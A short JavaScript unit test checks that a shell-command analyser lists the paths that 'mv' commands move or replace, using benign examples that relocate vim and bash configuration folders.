describe("what a fifty-fourth review moved under home's links", () => {
	it("names the paths an mv renames or replaces, for the shell to look below", () => {
		expect(floorFactRequestsOf("mv vim/.vim/plugin old-plugin", clean).movedPaths).toEqual([
			`${CWD}/vim/.vim/plugin`,
			`${CWD}/old-plugin`,
			`${CWD}/old-plugin/plugin`,
		]);
		expect(floorFactRequestsOf("cd bash && mv ../stage/.bashrc.d .", clean).movedPaths).toEqual([
			`${CWD}/stage/.bashrc.d`,
			`${CWD}/bash`,
			`${CWD}/bash/.bashrc.d`,
		]);
		expect(floorFactRequestsOf("cp a.txt b.txt", clean).movedPaths).toEqual([]);
	});
});
